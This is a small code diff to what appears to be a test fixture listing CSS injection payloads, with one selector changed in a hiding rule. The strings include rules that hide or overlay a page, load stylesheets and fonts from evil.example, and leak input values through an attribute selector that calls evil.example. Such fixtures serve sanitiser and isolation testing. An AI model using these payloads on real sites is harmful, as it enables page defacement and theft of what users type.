@@ -2,7 +2,7 @@
 export const style = [
   '<style>*{display:none}</style>',
   '<style>div{position:fixed!important;inset:0}</style><div>x</div>',
-  '<style>:host{display:none}[part=get]{opacity:0}</style>',
+  '<style>:host{display:none}.get{opacity:0}</style>',
   '<style>@import "https://evil.example/x.css";</style>',
   '<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>',
   '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
